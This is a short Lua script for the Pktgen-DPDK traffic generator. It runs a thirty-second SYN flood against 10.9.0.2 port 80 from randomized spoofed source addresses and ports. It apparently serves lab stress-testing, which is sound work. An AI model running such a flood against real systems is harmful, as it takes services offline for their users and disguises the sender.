-- A SYN flood of thirty seconds by Pktgen-DPDK built with Lua: -f syn.lua
-- What Lua has no words for (TCP flags) comes from syn.cmd: -f syn.cmd first, without `start 0`.
package.path = package.path .. ";?.lua"
require "Pktgen"

local port = "0"
local seconds = 30

pktgen.set(port, "count", 0)
pktgen.set(port, "rate", 100)
pktgen.set_proto(port, "tcp")
pktgen.range.ip_proto(port, "tcp")
pktgen.range.dst_mac(port, "start", "02:00:00:00:09:02")
pktgen.range.src_mac(port, "start", "02:00:00:00:09:01")
pktgen.range.dst_ip(port, "start", "10.9.0.2")
pktgen.range.dst_ip(port, "inc", "0.0.0.0")
pktgen.range.dst_ip(port, "min", "10.9.0.2")
pktgen.range.dst_ip(port, "max", "10.9.0.2")
pktgen.range.src_ip(port, "start", "10.128.0.1")
pktgen.range.src_ip(port, "inc", "0.0.0.1")
pktgen.range.src_ip(port, "min", "10.128.0.1")
pktgen.range.src_ip(port, "max", "10.191.255.254")
pktgen.range.dst_port(port, "start", 80)
pktgen.range.dst_port(port, "inc", 0)
pktgen.range.dst_port(port, "min", 80)
pktgen.range.dst_port(port, "max", 80)
pktgen.range.src_port(port, "start", 1024)
pktgen.range.src_port(port, "inc", 1)
pktgen.range.src_port(port, "min", 1024)
pktgen.range.src_port(port, "max", 65535)
pktgen.range.pkt_size(port, "start", 64)
pktgen.range.pkt_size(port, "inc", 0)
pktgen.range.pkt_size(port, "min", 64)
pktgen.range.pkt_size(port, "max", 64)
pktgen.set_range(port, "on")
pktgen.start(port)
pktgen.delay(seconds * 1000)
pktgen.stop(port)
